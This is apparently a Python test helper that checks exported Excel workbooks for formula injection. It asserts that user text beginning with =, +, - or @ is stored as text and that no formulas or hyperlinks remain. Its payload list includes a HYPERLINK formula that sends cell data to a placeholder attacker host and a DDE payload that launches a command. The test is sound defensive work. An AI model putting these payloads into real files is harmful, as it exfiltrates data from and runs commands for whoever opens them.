"""Reading an exported workbook for formula injection (docs/security.md §2): user text starting
with =, +, - or @ must come back as the same text, and the file must hold no formula."""

from __future__ import annotations

import io
import re
import zipfile

from python_calamine import CalamineWorkbook

PAYLOADS = (
    '=HYPERLINK("http://evil.example/?d="&A1,"点击")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)",
)


def formulas(content: bytes) -> list[str]:
    """The formulas (and hyperlinks) of every worksheet of an .xlsx file."""
    found = []
    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        for name in archive.namelist():
            if name.startswith("xl/worksheets/") and name.endswith(".xml"):
                xml = archive.read(name).decode()
                found += re.findall(r"<f[ >].*?</f>", xml) + re.findall(r"<hyperlink .*?/>", xml)
    return found


def cells(content: bytes) -> list[str]:
    book = CalamineWorkbook.from_filelike(io.BytesIO(content))
    return [str(c) for row in book.get_sheet_by_index(0).to_python() for c in row]


def assert_text_as_text(content: bytes, texts: tuple[str, ...] = PAYLOADS) -> None:
    assert formulas(content) == []
    written = cells(content)
    for text in texts:
        assert any(text in cell for cell in written), (text, written)
